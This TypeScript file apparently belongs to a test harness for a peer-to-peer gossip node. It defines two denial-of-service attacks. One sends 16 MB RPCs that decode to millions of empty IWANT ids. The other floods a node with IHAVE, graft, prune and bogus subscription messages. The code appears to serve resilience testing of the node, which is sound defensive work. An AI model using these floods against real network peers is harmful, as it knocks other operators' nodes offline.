import { randomBytes } from "node:crypto";
import { topicOf } from "../../e2e/harness/rogue.ts";
import type { Attack } from "../attack.ts";
import { control, field, give, rpc, rpcFields } from "../lib/wire.ts";

const iwants = { ids: 4, entries: 1_600, perEntry: 5_000, everyMs: 1_500 };

/** Sends RPCs of 16 MB that decode to 8 million ids. */
export const iwantFlood: Attack = {
  name: "iwant-flood",
  by: "stranger",
  provable: true,
  does: `${iwants.ids} ids send an RPC of ${iwants.entries} IWANTs with ${iwants.perEntry} empty ids each (16 MB) every ${iwants.everyMs / 1_000} s, each on a new stream`,
  async run(site) {
    const ids = Buffer.concat(Array.from({ length: iwants.perEntry }, () => field(1, new Uint8Array())));
    const message = rpc(
      control(
        "iwant",
        Array.from({ length: iwants.entries }, () => ids),
      ),
    );
    await site.crowd(iwants.ids, { rawGossip: true }, async ({ rogue, offend }) => {
      while (rogue.connected && !site.signal.aborted) {
        // A node that refuses an RPC reads no more of its stream.
        const stream = await rogue.gossipStream();
        offend();
        await give(stream, message);
        site.count("rpcs");
        await site.pause(iwants.everyMs);
      }
    });
  },
};

const floods = { ids: 8, perSecond: 200 };

/** Sends small RPCs of every kind that is free for the sender. */
export const controlFlood: Attack = {
  name: "control-flood",
  by: "stranger",
  does: `${floods.ids} ids send ${floods.perSecond} RPCs/s each: IHAVEs of unknown ids, grafts and prunes, subscriptions to topics that there are not, empty RPCs`,
  async run(site) {
    const topic = Buffer.from(topicOf("blocks", site.job.genesisId));
    const unknown = () => field(2, randomBytes(32));
    const ihave = rpc(
      control("ihave", [Buffer.concat([field(1, topic), ...Array.from({ length: 200 }, unknown)])]),
    );
    const graft = rpc(control("graft", [field(1, topic), field(1, Buffer.from("no-such-topic"))]));
    const prune = rpc(control("prune", [field(1, topic)]));
    const subscribe = () =>
      rpc(
        ...Array.from({ length: 20 }, () =>
          field(
            rpcFields.subscriptions,
            Buffer.concat([Uint8Array.of(0x08, 1), field(2, Buffer.from(randomBytes(16).toString("hex")))]),
          ),
        ),
      );
    const prebuilt = [ihave, graft, prune, rpc(new Uint8Array()), ...Array.from({ length: 40 }, subscribe)];
    await site.crowd(floods.ids, { rawGossip: true }, async ({ rogue }) => {
      const stream = await rogue.gossipStream();
      let next = 0;
      await site.repeat(
        floods.perSecond,
        async () => {
          await give(stream, prebuilt[next++ % prebuilt.length]!);
          site.count("rpcs");
        },
        () => rogue.connected,
      );
    });
  },
};
